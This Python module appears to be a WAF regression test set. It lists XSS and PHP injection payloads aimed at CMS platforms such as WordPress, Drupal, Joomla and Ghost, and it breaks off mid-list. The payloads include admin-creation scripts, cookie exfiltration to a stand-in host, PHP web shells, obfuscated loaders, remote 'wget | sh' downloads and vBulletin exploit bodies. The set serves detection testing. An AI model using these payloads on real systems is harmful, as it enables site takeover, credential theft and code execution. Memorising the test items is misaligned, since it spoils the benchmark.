"""Blind set "twohundredtwelfth": cross-site scripting and PHP injection the way they are aimed at content management
and publishing platforms, with benign requests from editors, web producers and site developers that carry the same
words innocently.

The angle: CMSs and everything bolted onto them, recalled from memory. WordPress core (comments, the REST API,
admin-ajax, Gutenberg block markup, shortcodes, the Customizer, the media library, the plugin and theme editors) and
its popular plugins and page builders (Elementor, code-snippet and insert-PHP plugins), Drupal (render arrays and
#post_render callbacks, Views, the form API, the PHP filter, the REST module), Joomla (session storage, template
editor, Sourcerer-style code tags), TYPO3, Ghost, Craft and Statamic (Yii and Laravel gadgets), Umbraco's AngularJS
back office, Sitecore, Kentico and DNN intranets still opened in IE mode, headless CMSs (Strapi, Contentful rich text
nodes, Sanity portable text, Directus), wikis (MediaWiki, Confluence, DokuWiki), forums (phpBB, vBulletin, Discourse),
Markdown and rich-text editors, RSS/Atom feeds and import/export tools. Each list carries a comment naming its
family, the platform and the target (browser, interpreter, template engine, product).

Families (sub-families, one per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector, javascript-uri, html-injection, svg-mathml,
    css-expression, template-literal-dom-sink, ie-filter-style, encoded-entity, angular-vue-template
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path, and for upload names the admin import's multipart file name) under the parameter
names the platforms use (s, comment, post_title, content, excerpt, page, file, template, snippet, ...), once the way
a WAF regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form body,
JSON body, XML body, a raw form-typed body, in User-Agent, Referer, a custom header or a cookie. Exploit requests
that are themselves a query string or form body (Drupalgeddon2's render-array keys, vBulletin's widget_php route,
PHP-CGI argument injection) go as raw `name=value` text; the Drupal REST exploit goes as the whole JSON body; upload
names go as multipart file names. Payloads with control characters never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of the
platforms, as remembered, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundredtwelfth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
UP = ("multipart-filename", "rs-multipart-filename")
RAWQ = ("query", "rs-query")
RAWF = ("form", "rs-form")
JB = ("json-body", "rs-json-body")
UA_H = ("header:User-Agent", "rs-header:User-Agent")

# ================================================================================================================
# XSS (target: the browser of whoever views the page, usually an editor or administrator with a session)
# ================================================================================================================

# libinjection-xss: short breakouts from the text, attribute or script context a CMS echoes input into
XSS_LIBINJECTION: list[Entry] = [
    # WordPress theme search.php echoing `s` into value="..." and into <title>
    '"><script>alert(document.domain)</script>',
    "'><img src=x onerror=alert(document.cookie)>",
    "</title><script>alert(1)</script>",
    # WordPress comment form re-echoed unescaped by a comment-preview plugin (author, comment textarea)
    "</textarea><script>alert(document.cookie)</script>",
    '"autofocus onfocus=alert(document.cookie) x="',
    # WordPress wp_localize_script block: close the inline script that holds the REST nonce
    "</script><script>alert(wpApiSettings.nonce)</script>",
    # Drupal drupalSettings / Joomla inline JS string reflected from a Views exposed filter
    '"-alert(document.domain)-"',
    "';alert(String.fromCharCode(88,83,83))//",
    "\\';alert(1);//",
    # Ghost members portal: signup name reflected in the welcome banner
    '"><svg/onload=alert(1)>',
    # Confluence page title in the breadcrumb
    "<img src=1 onerror=fetch('//xss.example/c?'+document.cookie)>",
    # WordPress Customizer Additional CSS printed inside <style>
    "</style><script>alert(1)</script>",
    # Joomla debug plugin prints request data inside an HTML comment
    "--><script>alert(1)</script><!--",
    # RSS/Atom item description shown by a feed-aggregator plugin: CDATA breakout
    "]]><script>alert(document.domain)</script>",
    # vBulletin 4 with magic quotes: the added backslash does not stop the attribute breakout
    '\\"><script>alert(1)</script>',
    # phpBB custom profile field rendered as HTML in the viewtopic mini-profile
    "'\"><body onload=alert(1)>",
    # DokuWiki with htmlok enabled
    "<html><script>alert(1)</script></html>",
    # Discourse onebox title in the composer preview
    "<img src=x:x onerror=alert(1)//>",
    # Kentico search results: searchtext reflected into a JS variable
    "\";alert(document.cookie);//",
    # DOMPurify namespace-confusion bypass aimed at a headless CMS preview (Strapi rich text)
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]

# script-tag: a script element stored through a CMS field
XSS_SCRIPT: list[Entry] = [
    # WordPress post content via /wp-json/wp/v2/posts by an author without unfiltered_html
    "<script>alert(document.cookie)</script>",
    "<script src=https://xss.example/wp.js></script>",
    # WordPress stored XSS to admin takeover: read the create-user nonce, then create an administrator
    "<script>fetch('/wp-admin/user-new.php').then(r=>r.text()).then(t=>{let n=t.match(/_wpnonce_create-user\" "
    "value=\"(\\w+)/)[1];fetch('/wp-admin/user-new.php',{method:'POST',credentials:'include',headers:"
    "{'Content-Type':'application/x-www-form-urlencoded'},body:'action=createuser&_wpnonce_create-user='+n+"
    "'&user_login=wpsupport&email=x@xss.example&pass1=P4ss!w0rd1&pass2=P4ss!w0rd1&role=administrator'})})"
    "</script>",
    # Drupal body field with the Full HTML text format (jQuery present on the front end)
    "<script>jQuery.get('/user/1/edit',function(d){new Image().src='//xss.example/?'+escape(d)})</script>",
    "<script>Drupal.behaviors.x={attach:function(){alert(document.cookie)}}</script>",
    # Joomla article editor when the text filter is set to No Filtering
    "<script>alert(Joomla.getOptions('csrf.token'))</script>",
    # case and whitespace games against naive strip filters (Strapi rich text, Directus WYSIWYG)
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # Umbraco RTE filter that removes the word once
    "<<script>script>alert(1)<</script>/script>",
    # TYPO3 RTE letting attributes through
    '<script type="text/javascript">alert(document.domain)</script>',
    '<script defer src="//xss.example/t3.js"></script>',
    "<script/src=//xss.example/x.js></script>",
    # Confluence HTML macro: send the current user's name away
    "<script>AJS.$.get('/rest/api/user/current',function(u){location='//xss.example/?'+u.username})</script>",
    # MediaWiki: script through a raw-HTML extension tag
    "<script>mw.loader.load('//xss.example/payload.js')</script>",
    # Ghost code injection (site header) by a contributor who gained the field
    "<script>fetch('/ghost/api/admin/users/me/').then(r=>r.json()).then(j=>navigator.sendBeacon("
    "'//xss.example',JSON.stringify(j)))</script>",
    # Discourse custom user field rendered in the user card
    "<script>alert(Discourse.User.current().username)</script>",
    # Sanity/Contentful rich text rendered with dangerouslySetInnerHTML on a Next.js front end
    "<script>import('https://xss.example/m.js')</script>",
    # phpBB: close a [code] block that a broken BBCode parser turns into raw HTML
    "[code]</code><script>alert(1)</script>[/code]",
    # DNN module title
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    # WordPress RSS widget title
    '<script charset="utf-7">alert(1)</script>',
]

# event-handler: handlers smuggled on tags the CMS allows
XSS_EVENT: list[Entry] = [
    # WordPress KSES-allowed tags with a handler a plugin's own sanitiser forgets
    '<img src="x" onerror="alert(document.cookie)">',
    "<a href=# onclick=alert(1)>read more</a>",
    "<details open ontoggle=alert(document.domain)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    # WordPress 4.2 comment truncation: a 64 KB comment cut inside the title attribute leaves the handler live
    "<a title='x onmouseover=alert(unescape(/hello%20world/.source)) style=position:absolute;left:0;top:0;"
    "width:5000px;height:5000px " + "A" * 300 + "'></a>",
    # Drupal Full HTML / CKEditor source mode
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    # Joomla article text with the editor switched to code view
    "<marquee onstart=alert(1)>",
    "<div onmouseover=alert(1) style=position:fixed;inset:0>",
    "<img src=x onerror=this.src='//xss.example/?c='+document.cookie>",
    # MediaWiki raw HTML ($wgRawHtml) and Confluence storage format
    "<image src=x onerror=alert(1)>",
    "<object data=x onerror=alert(1)>",
    "<iframe onload=alert(document.domain)>",
    # Discourse and Ghost: handler spelled to dodge lowercase-only filters
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img src=x onerror=alert`1`>",
    # page builders (Elementor HTML widget, Divi code module)
    "<body onpageshow=alert(1)>",
    "<div onpointerenter=alert(1)>hover</div>",
    '<a onmouseover="alert(document.cookie)">hover</a>',
    "<form><button formaction=x onfocus=alert(1) autofocus>",
]

# attribute-vector: src/href/style/formaction and shortcode attributes that end up in HTML attributes
XSS_ATTR: list[Entry] = [
    # WordPress caption shortcode (4.2-era) nesting an anchor in the caption attribute
    "[caption width=\"1\" caption='<a href=\"' \">]</a><a href=\"http://onmouseover=alert(1)//\">x</a>']"
    "[/caption]",
    # WordPress gallery and video shortcode attributes copied into the markup
    "[gallery ids='1' link='\" onmouseover=\"alert(1)']",
    "[video src=\"a.mp4\" poster='\"onerror=\"alert(1)'][/video]",
    # WordPress media library alt/title fields (REST /wp/v2/media) embedded into <img alt="...">
    '" onerror="alert(document.domain)',
    "x\" onmouseover=\"alert(1)\" style=\"position:fixed;inset:0",
    # Elementor Pro custom attributes (key|value) on a widget
    "onmouseover|alert(document.cookie)",
    # data: URL in src (Ghost HTML card, Strapi rich text)
    '<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"></iframe>',
    '<a href="data:text/html,<script>alert(document.cookie)</script>">Download the PDF</a>',
    # formaction on buttons inside an allowed form (Joomla contact, WordPress Contact Form 7 custom HTML)
    "<form><button formaction=javascript:alert(1)>Save draft</button></form>",
    "<button form=test formaction=javascript:alert(1)>X</button>",
    '<input type=submit formaction="//xss.example/steal" value="Update">',
    # src attributes that run script (Drupal, TYPO3)
    '<img srcset="x 1x" onerror="alert(1)">',
    '<object data="javascript:alert(1)"></object>',
    "<img src=x:alert(alt) onerror=eval(src) alt=document.cookie>",
    '<input type="image" src="x" onerror="alert(1)">',
    # style attribute that covers the page with a click catcher (Confluence, MediaWiki)
    '<a href="https://xss.example/login" style="position:fixed;top:0;left:0;width:100%;height:100%;'
    'z-index:9999;opacity:0">x</a>',
    # Gutenberg block attributes in the comment delimiter, re-rendered server side
    '<!-- wp:image {"url":"x\\" onerror=\\"alert(1)"} --><figure class="wp-block-image"><img src="x" '
    'onerror="alert(1)"/></figure><!-- /wp:image -->',
    # Umbraco media picker: alternate text
    "' onfocus='alert(1)' autofocus='",
    # Kentico page title attribute
    '" accesskey="x" onclick="alert(1)',
    # Directus interface: link attribute
    '<a href="//xss.example" onauxclick="alert(1)">middle-click</a>',
]

# javascript-uri: links an editor, commenter or API client can set
XSS_JSURI: list[Entry] = [
    # WordPress comment author website and nav menu custom links
    "javascript:alert(document.cookie)",
    "javascript:alert(document.domain)//",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript://%0aalert(1)",
    "javascript:fetch('//xss.example/?'+document.cookie)",
    "javascript:void(location='//xss.example/?'+document.cookie)",
    "javascript:eval(atob('YWxlcnQoMSk='))",
    "javascript:window.onerror=alert;throw document.cookie",
    '<a href="javascript:alert(1)">Read the full story</a>',
    # phpBB / vBulletin BBCode url tag
    "[url=javascript:alert(1)]click[/url]",
    "[url]javascript:alert(document.cookie)[/url]",
    # Markdown editors (Ghost, Discourse, Strapi Markdown, DokuWiki markdown plugin)
    "[Click here](javascript:alert(document.cookie))",
    "[click][1]\n\n[1]: javascript:alert(1)",
    # Gutenberg button block
    '<!-- wp:button {"url":"javascript:alert(1)"} --><div class="wp-block-button"><a class="wp-block-button__link" '
    'href="javascript:alert(1)">Buy</a></div><!-- /wp:button -->',
    # Elementor button widget settings (page builder JSON)
    '{"elType":"widget","widgetType":"button","settings":{"text":"Buy","link":{"url":"javascript:alert(1)",'
    '"is_external":""}}}',
    # Sanity portable text link mark and Contentful rich text hyperlink node
    '{"_type":"link","_key":"a1","href":"javascript:alert(document.cookie)"}',
    '{"nodeType":"hyperlink","data":{"uri":"javascript:alert(1)"},"content":[{"nodeType":"text","value":"x",'
    '"marks":[],"data":{}}]}',
    # DokuWiki interwiki-style link
    "[[javascript:alert(1)|Click]]",
]

# html-injection: iframe/object/embed/base/meta/link/form elements stored in content
XSS_HTML: list[Entry] = [
    # WordPress post with a full-page phishing overlay of wp-login.php
    '<iframe src="https://xss.example/phish/wp-login.php" style="position:fixed;top:0;left:0;width:100%;'
    'height:100%;border:0"></iframe>',
    '<iframe srcdoc="<script>parent.alert(document.domain)</script>"></iframe>',
    '<iframe src="javascript:alert(document.cookie)"></iframe>',
    # Joomla / Drupal: object and embed from an attacker host
    '<object data="//xss.example/x.swf" type="application/x-shockwave-flash"><param name=allowscriptaccess '
    'value=always></object>',
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxl'
    'cnQoMSkiLz4=" type="image/svg+xml">',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    # base element: every relative script a WordPress theme loads now comes from the attacker
    '<base href="https://xss.example/">',
    '<base href="javascript:/a/-alert(1)///////"><a href=../lol>x</a>',
    # meta refresh (MediaWiki raw HTML, Confluence HTML macro)
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://xss.example/wp-login.php">',
    # link elements
    '<link rel="stylesheet" href="https://xss.example/evil.css">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    # credential-harvesting forms in a post (Ghost, phpBB with HTML on)
    '<form action="https://xss.example/collect" method="post"><input name="pwd" type="password" '
    'placeholder="Re-enter your WordPress password"><button>Continue</button></form>',
    '<form id=x></form><button form=x formaction=javascript:alert(1)>go</button>',
    '<form action="https://xss.example/wp-login.php" method=post><input name=log><input name=pwd type=password>'
    '<input type=submit value="Log In"></form>',
    # frames (Sitecore rich text field)
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    # oEmbed-style iframe with a sandbox that gives everything back
    '<iframe src=//xss.example/embed.html sandbox="allow-scripts allow-same-origin allow-top-navigation">'
    '</iframe>',
    # Discourse: an iframe hidden in a details block
    '<details><summary>spoiler</summary><iframe src="https://xss.example/x.html" width=0 height=0></iframe>'
    '</details>',
    # Strapi/Directus HTML field: meta that replaces the CSP
    "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline' *\">"
    "<script>alert(1)</script>",
]

# svg-mathml: SVG uploads to media libraries and SVG/MathML markup in rich text
XSS_SVG: list[Entry] = [
    # WordPress media library SVG (Safe SVG bypass), Craft assets, Directus files
    '<?xml version="1.0" standalone="no"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>',
    '<svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">alert(document.cookie)</script></svg>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(document.domain)</script></svg>",
    '<svg><script href="//xss.example/x.js"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Click</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48YSBp'
    'ZD0ieCIgaHJlZj0iamF2YXNjcmlwdDphbGVydCgxKSI+PHJlY3Qgd2lkdGg9IjEwMCIgaGVpZ2h0PSIxMDAiLz48L2E+PC9zdmc+#x"/></svg>',
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>click"
    "</text></a></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>',
    "<svg><image href=x onerror=alert(1)>",
    "<svg><discard onbegin=alert(1)>",
    "<svg><animateTransform onbegin=alert(1) attributeName=transform>",
    "<svg><set attributeName=onmouseover to=alert(1)><rect width=100% height=100% /></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    # DOMPurify mutation bypasses aimed at headless previews (Strapi, Sanity)
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    # MathML in MediaWiki / Confluence rich text (Firefox)
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">click<mtext>x</mtext></maction>'
    "</math>",
    '<math href="javascript:alert(1)">click</math>',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>',
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
]

# css-expression: style attributes and stylesheets (Customizer Additional CSS, Elementor custom CSS, old IE intranets)
XSS_CSS: list[Entry] = [
    # IE expression() in Kentico/DNN intranet pages still opened in IE mode
    '<div style="width:expression(alert(document.cookie))">',
    '<p style="x:expression(alert(1))">',
    '<div style="xss:ex/**/pression(alert(1))">',
    '<div style="x:\\65 xpression(alert(1))">',
    '<div style="width: expression(eval(String.fromCharCode(97,108,101,114,116,40,49,41)))">',
    "<style>*{x:expression(alert(1))}</style>",
    # url(javascript:) and behaviors
    '<div style="background:url(javascript:alert(1))">',
    '<div style="background-image:url(&#1;javascript:alert(1))">',
    '<div style="list-style-image:url(javascript:alert(1))">',
    '<div style="behavior:url(//xss.example/xss.htc)">',
    '<div style="-moz-binding:url(//xss.example/xss.xml#x)">',
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style type=\"text/css\">li{list-style-image:url(\"javascript:alert('XSS')\");}</style><ul><li>x</li></ul>",
    # stylesheet imports from the attacker (WordPress Additional CSS)
    '<style>@import "//xss.example/evil.css";</style>',
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    '<link rel=stylesheet href="data:,*%7bx:expression(alert(1))%7d">',
    # CSS exfiltration of the WordPress nonce and the Drupal form token by attribute selectors
    "<style>input[name=_wpnonce][value^=a]{background:url(//xss.example/?n=a)}</style>",
    '<style>input[name="form_token"][value^="b"]{background-image:url(https://xss.example/leak?b)}</style>',
    # Elementor custom CSS box (selector keyword) and Customizer CSS breakout
    'selector{background:url("javascript:alert(document.cookie)")}',
    "</style><img src=x onerror=alert(1)>",
]

# template-literal/dom-sink: input that reaches eval, innerHTML, document.write or a template literal client side
XSS_DOM: list[Entry] = [
    # headless front ends (Gatsby/Next previews) placing a field into a template literal
    "${alert(document.domain)}",
    "`;alert(1);`",
    "${fetch(`//xss.example/?${document.cookie}`)}",
    # WordPress themes doing $(location.hash) or innerHTML of the hash
    "#<img src=x onerror=alert(1)>",
    '#"><img src=x onerror=alert(document.cookie)>',
    # prettyPhoto lightbox hash (bundled with many WordPress themes)
    "#prettyPhoto[gallery]/1/<img src=x onerror=alert(document.domain)>",
    # document.write / eval sinks in Joomla modules reading the query
    "<script>document.write(decodeURIComponent(location.hash.slice(1)))</script>",
    '"><img src=x onerror=eval(location.hash.slice(1))>',
    "<img src=x onerror=eval(atob(this.id)) id=YWxlcnQoZG9jdW1lbnQuY29va2llKQ==>",
    "<script>eval(name)</script>",
    # JSONP callbacks offered by WordPress plugins and Drupal modules
    "alert(document.domain)//",
    "alert;//",
    # client-side prototype pollution to an innerHTML/script gadget (Ghost/Next.js query parsers)
    "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
    "constructor[prototype][src]=data:,alert(1)//",
    "__proto__[srcdoc][]=<script>alert(1)</script>",
    # JSON in a script block: escaped quotes that the sink decodes back
    "\\u0022-alert(1)-\\u0022",
    "'-alert(document.domain)-'",
    # location sinks (redirect parameters read by a login widget)
    "javascript:alert(1)//%0a",
    "<img src=x onerror=location=`javascript:alert\\x281\\x29`>",
    "<iframe src=\"javascript:parent.postMessage(document.cookie,'*')\"></iframe>",
]

# ie-filter-style: the vectors old IE XSS filters were built around (DNN, Kentico, SharePoint-era intranet CMSs)
XSS_IE: list[Entry] = [
    "vbscript:msgbox(document.cookie)",
    '<a href="vbscript:MsgBox(1)">x</a>',
    '<script language="VBScript">MsgBox document.cookie</script>',
    '<a href="#" language="vbscript" onclick="msgbox(1)">x</a>',
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    '<bgsound src="javascript:alert(1)">',
    '<input type="image" src="javascript:alert(1)">',
    '<table background="javascript:alert(1)">',
    "<xml id=x><a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a></xml><span datasrc=#x datafld=b "
    "dataformatas=html></span>",
    '<?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" '
    'to="XSS&lt;script defer&gt;alert(1)&lt;/script&gt;">',
    '<html xmlns:xss><?import namespace="xss" implementation="//xss.example/x.htc"><xss:xss>x</xss:xss></html>',
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    '<comment><img src="</comment><img src=x onerror=alert(1)//">',
    '<object classid="clsid:ae24fdae-03c6-11d1-8b76-0080c744f389"><param name=url value=javascript:alert(1)>'
    "</object>",
    '<style>@import "javascript:alert(1)";</style>',
    '<meta http-equiv="Set-Cookie" content="DNNPersonalization=x; path=/">',
    '<layer src="//xss.example/x.html"></layer>',
    '<x style="behavior:url(#default#time2)" onbegin="alert(1)">',
    '<isindex action=javascript:alert(1) type=image>',
]

# encoded-entity: entity, percent, unicode and UTF-7 encodings that a CMS decodes before output
XSS_ENCODED: list[Entry] = [
    # TinyMCE / CKEditor entity decode on save (WordPress classic editor, Joomla)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(document.cookie)&#60;/script&#62;",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(document.cookie)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">',
    "<img src=x onerror=&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
    "&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041>",
    "<svg><script>&#97;lert(1)</script></svg>",
    # double percent-encoding through a WordPress redirect or a Drupal path alias
    "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    "%3Csvg%2Fonload%3Dalert(1)%3E",
    # IIS-hosted CMSs (DNN, Umbraco, Sitecore): %u encoding and overlong UTF-8
    "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    # JSON-escaped markup in REST payloads rendered by a headless front end
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    # UTF-7 (charset-less feeds and old IE)
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    # JavaScript escapes inside handlers and javascript: URLs
    "<img src=x onerror=\\u0061lert(1)>",
    '<a href="javascript:%61%6c%65%72%74%28%31%29">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
]

# angular-vue-template: client template expressions (Umbraco back office is AngularJS; Vue in Craft/Statamic/Directus
# control panels; Alpine.js in Statamic; Polymer-style [[ ]] delimiters)
XSS_CLIENT_TEMPLATE: list[Entry] = [
    # AngularJS (Umbraco 7/8 back office, Kentico admin modules)
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    '{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","alert(1)"].sort('
    "toString.constructor);}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$eval.constructor('alert(1)')()}}",
    "{{constructor.constructor('fetch(`//xss.example/?`+document.cookie)')()}}",
    "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>",
    '<img src=x ng-on-error="$event.target.ownerDocument.defaultView.alert(1)">',
    # Vue 2 / Vue 3 (Craft CP, Directus app, Statamic CP)
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert(1)}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div v-if=\"constructor.constructor('alert(1)')()\"></div>",
    '<x @click="$event.view.alert(document.domain)">click</x>',
    "<p v-bind:title=\"constructor.constructor('alert(1)')()\">x</p>",
    # Alpine.js (Statamic control panel, Laravel-based CMS themes)
    '<div x-data x-init="alert(document.domain)"></div>',
    '<button x-data x-on:click="alert(document.cookie)">x</button>',
    # Polymer / custom [[ ]] delimiters (Sitecore JSS, Vue with custom delimiters)
    "[[constructor.constructor('alert(1)')()]]",
]

# ================================================================================================================
# PHP injection (target: the PHP interpreter behind the CMS)
# ================================================================================================================

# php-open-tag: code a CMS writes into a .php file or evaluates as a template (plugin/theme editors, page-cache
# files, code-in-content plugins, Drupal PHP filter, Joomla Sourcerer/DirectPHP, Smarty {php}, phpBB PHP in styles)
PHP_OPEN_TAG: list[Entry] = [
    # WordPress theme/plugin editor (newcontent) and Exec-PHP style post content
    "<?php system($_GET['cmd']); ?>",
    "<?php echo shell_exec($_REQUEST['c']); ?>",
    "<?=`$_GET[0]`?>",
    "<?php @eval($_POST['wp']);?>",
    "<? passthru($_GET['x']); ?>",
    "<?php\nif(isset($_REQUEST['k'])){system($_REQUEST['k']);}\n?>",
    "<?php\r\n@error_reporting(0);@set_time_limit(0);echo md5('wp');\r\n?>",
    "<?php file_put_contents('wp-content/uploads/.cache.php', base64_decode($_POST['d'])); ?>",
    "<?php $f=fopen('wp-content/mu-plugins/wp-cache.php','w');fwrite($f,'<?php eval($_POST[1]);');fclose($f);?>",
    "<?php copy('https://xss.example/s.txt','wp-content/uploads/s.php'); ?>",
    "<?=file_get_contents('../wp-config.php')?>",
    # image polyglot for a media library that only checks magic bytes
    "GIF89a<?php system($_GET['c']); ?>",
    # Drupal 7 PHP filter text format
    "<?php print shell_exec('id'); ?>",
    "<?php print_r(db_query('SELECT name, pass FROM {users}')->fetchAll()); ?>",
    # Joomla template editor (index.php of the template) and Sourcerer / DirectPHP in articles
    "<?php if(!empty($_COOKIE['jx'])){eval(base64_decode($_COOKIE['jx']));} ?>",
    "{source}<?php system('id'); ?>{/source}",
    "<?php echo JFactory::getConfig()->get('password'); ?>",
    # PHP 5 script/asp tags still accepted by old hosts
    '<script language="php">system("id");</script>',
    "<% system($_GET['c']); %>",
    # Smarty {php} (CMS Made Simple, older WHMCS-style themes) and phpBB 3.0 styles with PHP enabled
    "{php}system('id');{/php}",
    "<!-- PHP -->system($_GET['c']);<!-- ENDPHP -->",
    # obfuscated droppers found in hacked WordPress sites
    "<?php eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA'))); ?>",
    "<?php /**/ system/**/($_GET[1]);",
    "<?PHP phpinfo(); ?>",
    "<?php\techo file_get_contents('/etc/passwd');",
    "<?php readfile('/proc/self/environ'); ?>",
    "<?php include $_GET['f']; ?>",
]

# php-function-call: command and code execution functions as code-snippet plugins and eval'd settings receive them
PHP_FUNCTION_CALL: list[Entry] = [
    # vBulletin 5 widget_php route (CVE-2019-16759), whole form body
    ("routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;", *RAWF),
    ("routestring=ajax/render/widget_tabbedcontainer_tab_panel&subWidgets[0][template]=widget_php&"
     "subWidgets[0][config][code]=phpinfo();", *RAWF),
    # WordPress Insert PHP / PHP Everywhere shortcodes and WPCode snippets
    "[insert_php]system($_GET['c']);[/insert_php]",
    "[php_everywhere]passthru('uname -a');[/php_everywhere]",
    "echo shell_exec('id'); exit;",
    "system('cat ../wp-config.php');",
    "passthru('uname -a');",
    "exec('wget -qO- https://xss.example/x.sh | sh', $o); print_r($o);",
    "shell_exec('curl -s https://xss.example/b -o wp-content/uploads/b.php');",
    "popen('id', 'r');",
    "proc_open('sh -i', array(0=>array('pipe','r'),1=>array('pipe','w'),2=>array('pipe','w')), $p);",
    "proc_open(['php','-r','system(\"id\");'],[],$pipes);",
    "assert('system(\"id\")');",
    "eval('phpinfo();');",
    "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));",
    "create_function('', 'system($_GET[\"c\"]);');",
    # preg_replace /e in old Joomla/TYPO3 extensions and phpBB 2 highlight parameter
    "preg_replace('/.*/e', 'system(\"id\")', '');",
    "preg_replace('/x/e','passthru(\"ls -la\")','x')",
    "pcntl_exec('/bin/sh', array('-c', 'id'));",
    # PHPMailer sender injection in WordPress core's wp_mail (CVE-2016-10033)
    "mail('a@xss.example','x','x','', '-OQueueDirectory=/tmp -X/var/www/html/wp-content/uploads/x.php');",
    "die(system('id'));",
    "print(`id`);",
